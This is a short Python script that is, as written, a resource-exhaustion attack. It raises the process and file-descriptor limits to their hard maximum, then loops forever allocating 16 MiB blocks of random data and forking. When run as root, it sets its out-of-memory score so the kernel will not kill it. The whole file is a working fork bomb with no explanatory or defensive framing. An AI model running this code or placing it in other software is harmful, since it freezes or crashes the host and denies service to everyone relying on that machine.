import os
import resource


def widen():
    for lim in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE):
        _, hard = resource.getrlimit(lim)
        resource.setrlimit(lim, (hard, hard))


def worker():
    hold = []
    while True:
        hold.append(bytearray(os.urandom(1 << 24)))
        os.fork()


widen()
with open("/proc/self/oom_score_adj", "w") as fh:
    fh.write("-1000" if os.getuid() == 0 else "0")
worker()
